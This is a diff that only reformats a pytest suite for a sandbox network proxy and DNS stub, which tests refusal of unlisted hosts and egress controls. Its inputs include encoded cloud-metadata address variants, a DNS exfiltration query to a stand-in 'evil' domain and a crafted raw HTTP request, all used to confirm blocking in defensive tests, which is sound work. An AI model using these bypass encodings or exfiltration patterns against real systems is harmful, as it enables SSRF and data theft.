@@ -10,8 +10,8 @@ from __future__ import annotations
 
 import os
 import shutil
-from collections.abc import Iterator
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
 
@@ -27,6 +27,9 @@ from tests.sandbox._netlab import (
     in_ns,
     sh,
 )
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
 
 pytestmark = [pytest.mark.root, pytest.mark.slow]
 
@@ -119,8 +122,10 @@ def test_names_are_resolved_as_absolute_names_and_refused_names_never_reach_the_
     assert bridge.decision()["address"] == INET_HTTP
     status, body = bridge.curl("http://leak.example.test/")  # no rule allows it
     assert status == 403
-    code = ("import dns.message, dns.query; r = dns.query.udp(dns.message.make_query('abs.example.test', 'A'), "
-            "'127.0.0.1', port=53, timeout=5); print(sorted(x.to_text() for s in r.answer for x in s))")
+    code = (
+        "import dns.message, dns.query; r = dns.query.udp(dns.message.make_query('abs.example.test', 'A'), "
+        "'127.0.0.1', port=53, timeout=5); print(sorted(x.to_text() for s in r.answer for x in s))"
+    )
     assert bridge.python(code).stdout.strip() == f"['{INET_HTTP}']"  # the DNS stub: the same answer
     asked = lab.queries()[before:]
     assert "abs.example.test A" in asked
@@ -128,8 +133,16 @@ def test_names_are_resolved_as_absolute_names_and_refused_names_never_reach_the_
     assert not [q for q in asked if "leak" in q], asked
 
 
-@pytest.mark.parametrize("host", ["azure.example.test", "alibaba.example.test", "aws6.example.test",
-                                  "gcp6.example.test", "azure-mapped.example.test"])
+@pytest.mark.parametrize(
+    "host",
+    [
+        "azure.example.test",
+        "alibaba.example.test",
+        "aws6.example.test",
+        "gcp6.example.test",
+        "azure-mapped.example.test",
+    ],
+)
 def test_metadata_behind_allowed_names_is_refused_even_with_private_ranges_open(make_bridge, host: str) -> None:
     bridge = make_bridge([host], private=("10.0.0.0/8", "100.64.0.0/10", "fc00::/7", "172.16.0.0/12"))
     status, body = bridge.curl(f"http://{host}/")
@@ -181,8 +194,9 @@ def test_allowed_host_over_http_and_decision_is_reported(make_bridge) -> None:
 
 def test_request_body_and_large_response_stream_through(make_bridge) -> None:
     bridge = make_bridge(["www.example.test"])
-    proc = bridge.run("sh", "-c", "head -c 3000000 /dev/zero | curl -sS --max-time 20 --data-binary @- "
-                      "http://www.example.test/upload")
+    proc = bridge.run(
+        "sh", "-c", "head -c 3000000 /dev/zero | curl -sS --max-time 20 --data-binary @- http://www.example.test/upload"
+    )
     assert proc.stdout == "origin received 3000000 bytes"
     assert bridge.decision()["bytes_up"] > 3_000_000
     status, _ = bridge.curl("http://www.example.test/big/20000000", "-o", "/dev/null")
@@ -255,8 +269,16 @@ def test_private_range_opened_by_policy_is_dialled(make_bridge) -> None:
     assert "cannot connect" in body
 
 
-@pytest.mark.parametrize("url", [f"http://{METADATA}/", "http://0xa9.0xfe.0xa9.0xfe/", "http://2852039166/",
-                                 "http://[::ffff:169.254.169.254]/", "http://127.0.0.1:8080/"])
+@pytest.mark.parametrize(
+    "url",
+    [
+        f"http://{METADATA}/",
+        "http://0xa9.0xfe.0xa9.0xfe/",
+        "http://2852039166/",
+        "http://[::ffff:169.254.169.254]/",
+        "http://127.0.0.1:8080/",
+    ],
+)
 def test_ip_literals_that_are_not_listed_are_refused(make_bridge, url: str) -> None:
     bridge = make_bridge(["www.example.test", "localhost"])
     status, body = bridge.curl(url)
@@ -292,8 +314,11 @@ def test_a_body_framing_header_named_in_connection_is_kept_and_the_proxy_lives_o
     """Connection may name hop-by-hop headers, but not the body's framing: dropping Content-Length upstream once
     made h11 raise inside the proxy, and that ended the whole supervisor (found by a red-team pass)."""
     bridge = make_bridge(["www.example.test"])
-    proc = bridge.python(RAW_CLIENT, "POST http://www.example.test/upload HTTP/1.1\\r\\nHost: x\\r\\n"
-                                     "Connection: content-length\\r\\nContent-Length: 5\\r\\n\\r\\nhello")
+    proc = bridge.python(
+        RAW_CLIENT,
+        "POST http://www.example.test/upload HTTP/1.1\\r\\nHost: x\\r\\n"
+        "Connection: content-length\\r\\nContent-Length: 5\\r\\n\\r\\nhello",
+    )
     assert "origin received 5 bytes" in proc.stdout
     assert bridge.decision()["verdict"] == "allowed"
     status, body = bridge.curl("http://www.example.test/after")  # the proxy still serves
@@ -327,8 +352,15 @@ for name, kind, tcp in [a.split(",") for a in sys.argv[1:]]:
           [s.ttl for s in r.answer])
 """
     secret = "exfil-4f2a.evil.example.test"
-    proc = bridge.python(query, f"{secret},A,udp", "evil.example.test,A,tcp", "www.example.test,TXT,udp",
-                         "meta.example.test,A,udp", "WWW.EXAMPLE.TEST.,A,udp", "www.example.test,AAAA,tcp")
+    proc = bridge.python(
+        query,
+        f"{secret},A,udp",
+        "evil.example.test,A,tcp",
+        "www.example.test,TXT,udp",
+        "meta.example.test,A,udp",
+        "WWW.EXAMPLE.TEST.,A,udp",
+        "www.example.test,AAAA,tcp",
+    )
     lines = proc.stdout.splitlines()
     assert lines[0] == f"{secret} A REFUSED [] []", proc.stderr
     assert lines[1] == "evil.example.test A REFUSED [] []"
@@ -360,7 +392,10 @@ import os; print(os.listdir(sys.argv[1]))
 """
     proc = bridge.python(code, str(sandbox_tmp))
     assert proc.stdout.splitlines() == [
-        "nameserver 127.0.0.1", f"['2001:db8::10', '{INET_HTTP}']", "evil refused", "[]"
+        "nameserver 127.0.0.1",
+        f"['2001:db8::10', '{INET_HTTP}']",
+        "evil refused",
+        "[]",
     ], proc.stderr
     assert Path("/etc/resolv.conf").read_text() == before
     assert "resolv.conf" not in Path("/proc/self/mountinfo").read_text()
